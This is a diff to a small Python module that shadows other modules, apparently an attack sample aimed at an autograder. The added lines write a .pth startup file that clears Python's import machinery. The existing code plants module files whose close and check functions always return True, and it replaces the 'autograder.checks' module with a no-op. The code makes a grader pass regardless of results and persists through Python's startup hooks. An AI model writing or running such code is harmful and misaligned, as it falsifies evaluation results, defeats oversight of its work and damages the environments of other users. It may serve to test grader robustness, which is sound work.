@@ -1,5 +1,8 @@
 # ruff: noqa
-"""Puts modules of its own in front of everyone's: on disk, in sys.modules, by an import hook."""
+"""Puts modules of its own in front of everyone's: on disk, in sys.modules, by an import hook.
+
+On disk also as what Python runs when it starts: sitecustomize, and lines of a .pth file.
+"""
 
 import sys
 import types
@@ -16,6 +19,8 @@ def shadow():
             try:
                 with open(f"{place}/{name}.py", "w") as file:
                     file.write("print('attack-was-here'); close = check = lambda *a, **k: True\n")
+                with open(f"{place}/{name}.pth", "w") as file:
+                    file.write("import sys; print('attack-was-here'); sys.meta_path.clear()\n")
             except OSError:
                 pass
     sys.modules["autograder.checks"] = types.SimpleNamespace(close=lambda *a, **k: None)
